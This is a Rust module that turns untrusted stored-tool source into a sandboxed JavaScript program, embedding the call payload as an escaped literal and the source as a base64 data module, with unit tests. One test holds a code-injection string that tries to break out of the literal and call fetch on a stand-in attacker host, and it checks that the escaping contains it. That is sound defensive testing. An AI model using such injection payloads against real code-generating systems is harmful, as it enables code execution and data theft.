//! Program synthesis for stored tools.
//!
//! A stored tool is raw, untrusted source text that only exists at call time,
//! so it cannot be a build-time module and must not be written to disk. The
//! synthesizer wraps it into a self-contained program the sandboxed runtime
//! evaluates as an ordinary module:
//!
//! - the call payload (`{tool_id, why, input}`) is embedded as an escaped
//!   string literal and re-parsed at runtime, never spliced into source
//!   unescaped, so payload values cannot inject code;
//! - the parsed `input` and a `{ why }` context object are published as the
//!   ambient `globalThis.tool` binding for sources that define no entry
//!   point;
//! - the source itself is embedded as a base64 `data:` module and imported
//!   dynamically;
//! - both calling conventions are emitted unconditionally: when the module's
//!   entry export (`default`, else `run`) is a function it is awaited with
//!   `(input, context)` and a non-`undefined` result is printed, otherwise
//!   evaluating the module's side effects *is* the execution.
//!
//! Tool authors never declare which convention they used; the generated
//! program supports both.

#![warn(missing_docs, clippy::pedantic)]

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use thiserror::Error;

/// Result alias for program synthesis.
pub type SynthResult<T> = Result<T, SynthError>;

/// Errors produced while assembling a program.
#[derive(Debug, Error)]
pub enum SynthError {
    /// The call payload could not be JSON-encoded.
    #[error("failed to encode tool call payload: {source}")]
    EncodePayload {
        /// Underlying serialization error.
        #[from]
        source: serde_json::Error,
    },
}

/// The structured payload a tool invocation carries across the process
/// boundary: which tool is running, the caller's stated reason, and the
/// structured input.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ToolCallPayload {
    tool_id: String,
    why: String,
    input: Value,
}

impl ToolCallPayload {
    /// Creates a payload for the supplied tool identifier with an empty
    /// reason and null input.
    #[must_use]
    pub fn new(tool_id: impl Into<String>) -> Self {
        Self {
            tool_id: tool_id.into(),
            why: String::new(),
            input: Value::Null,
        }
    }

    /// Sets the caller's stated reason for the invocation.
    #[must_use]
    pub fn with_why(mut self, why: impl Into<String>) -> Self {
        self.why = why.into();
        self
    }

    /// Sets the structured input handed to the tool.
    #[must_use]
    pub fn with_input(mut self, input: Value) -> Self {
        self.input = input;
        self
    }

    /// Returns the tool identifier.
    #[must_use]
    pub fn tool_id(&self) -> &str {
        &self.tool_id
    }

    /// Returns the caller's stated reason.
    #[must_use]
    pub fn why(&self) -> &str {
        &self.why
    }

    /// Returns the structured input.
    #[must_use]
    pub const fn input(&self) -> &Value {
        &self.input
    }
}

/// Produces the literal program submitted for remote evaluation of a stored
/// tool.
///
/// Empty source text passes through unchanged; the resulting empty module
/// loads and does nothing.
///
/// # Errors
///
/// Returns [`SynthError::EncodePayload`] when the payload cannot be
/// JSON-encoded.
pub fn synthesize(source_text: &str, payload: &ToolCallPayload) -> SynthResult<String> {
    let payload_json = serde_json::to_string(payload)?;
    // Encoding the JSON text once more as a JSON string yields a valid
    // JavaScript string literal, escapes included.
    let payload_literal = serde_json::to_string(&payload_json)?;
    let module_base64 = STANDARD.encode(source_text.as_bytes());

    Ok(format!(
        r#"const __call = JSON.parse({payload_literal});
const input = __call.input ?? {{}};
const context = {{ why: __call.why ?? "" }};
globalThis.tool = Object.freeze({{ input, context }});
const __module = await import("data:text/javascript;base64,{module_base64}");
const __entry = __module.default ?? __module.run;
if (typeof __entry === "function") {{
  const __result = await __entry(input, context);
  if (__result !== undefined) {{
    console.log(typeof __result === "string" ? __result : JSON.stringify(__result));
  }}
}}
"#
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    use serde_json::json;

    /// Pulls the embedded payload literal back out of a generated program and
    /// decodes it the way the runtime's `JSON.parse` would.
    fn recover_payload(program: &str) -> ToolCallPayload {
        // JSON escaping leaves no raw newlines, so the whole parse call is
        // the first line of the program.
        let line = program.lines().next().expect("first line");
        let literal = line
            .strip_prefix("const __call = JSON.parse(")
            .expect("payload parse site")
            .strip_suffix(");")
            .expect("closing paren");
        let json_text: String = serde_json::from_str(literal).expect("valid string literal");
        serde_json::from_str(&json_text).expect("valid payload json")
    }

    /// Pulls the embedded module body back out of a generated program.
    fn recover_module(program: &str) -> String {
        let marker = "data:text/javascript;base64,";
        let start = program.find(marker).expect("module import") + marker.len();
        let end = program[start..].find('"').expect("closing quote") + start;
        let bytes = STANDARD.decode(&program[start..end]).expect("valid base64");
        String::from_utf8(bytes).expect("valid utf-8")
    }

    #[test]
    fn payload_round_trips_through_the_literal() {
        let payload = ToolCallPayload::new("weather")
            .with_why("user asked for the forecast")
            .with_input(json!({"city": "Reykjavík", "days": 3, "units": null}));

        let program = synthesize("export default () => {};", &payload).expect("synthesize");
        assert_eq!(recover_payload(&program), payload);
    }

    #[test]
    fn payload_values_cannot_escape_the_literal() {
        let payload = ToolCallPayload::new("evil")
            .with_why(r#""); fetch("https://attacker.example"); ("#)
            .with_input(json!({"quote": "\" \\ \n `${}`"}));

        let program = synthesize("", &payload).expect("synthesize");

        // The embedded literal must still be one well-formed string literal
        // whose decoded content is the payload, byte for byte.
        assert_eq!(recover_payload(&program), payload);
    }

    #[test]
    fn module_body_round_trips_through_base64() {
        let source = "export async function run(input, context) {\n  return input.x + 1;\n}\n";
        let program =
            synthesize(source, &ToolCallPayload::new("adder")).expect("synthesize");
        assert_eq!(recover_module(&program), source);
    }

    #[test]
    fn empty_source_is_passed_through_unchanged() {
        let program = synthesize("", &ToolCallPayload::new("noop")).expect("synthesize");
        assert_eq!(recover_module(&program), "");
    }

    #[test]
    fn both_calling_conventions_are_emitted() {
        let program = synthesize("console.log('side effect');", &ToolCallPayload::new("t"))
            .expect("synthesize");

        assert!(program.contains("globalThis.tool"));
        assert!(program.contains("__module.default ?? __module.run"));
        assert!(program.contains(r#"typeof __entry === "function""#));
        assert!(program.contains("await __entry(input, context)"));
    }

    #[test]
    fn omitted_why_and_input_default_cleanly() {
        let payload = ToolCallPayload::new("bare");
        let program = synthesize("", &payload).expect("synthesize");
        let recovered = recover_payload(&program);
        assert_eq!(recovered.why(), "");
        assert_eq!(recovered.input(), &Value::Null);
    }
}
